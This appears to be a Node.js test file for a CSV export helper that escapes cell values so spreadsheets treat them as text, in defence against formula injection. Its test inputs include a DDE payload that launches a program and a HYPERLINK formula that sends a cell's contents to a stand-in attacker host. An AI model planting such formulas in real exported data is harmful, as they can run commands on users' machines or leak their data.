import assert from 'node:assert/strict';
import { test } from 'node:test';
import { join } from 'node:path';

const { cell } = await import(join(process.env.MODULES, 'export.mjs'));

// The same cases as those of Go's package sheet.
test('what a spreadsheet would compute is text', () => {
  for (const s of ['=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1', ' =1+1', '\u00a0=1', '\ufeff=1', '\u200b=1', '＝1', '＋1', '－1', '＠A1', "=cmd|' /C calc'!A0", '|calc', '%0A=1', "-2+3+cmd|' /C calc'!A0", '-inf', '+', '-', '--', '-1e9999', '-0x10']) {
    assert.equal(cell(s), `'${s}`, JSON.stringify(s));
  }
  assert.equal(cell('=HYPERLINK("https://evil.example/?"&A1)'), `"'=HYPERLINK(""https://evil.example/?""&A1)"`);
  assert.equal(cell('\r=1'), '"\'\r=1"');
  assert.equal(cell('\n=1'), '"\'\n=1"');
  for (const s of ['', ' ', 'a=b', 'web-01', '1-2', "'quoted", '-5', '+5', '-5.25', '-1e-7', '  -5', '10%', 'a|b', 'user@example.com']) assert.equal(cell(s), s, JSON.stringify(s));
  assert.equal(cell(-5), '-5');
  assert.equal(cell(undefined), '');
  assert.equal(cell({ a: '=1' }), '"{""a"":""=1""}"');
});
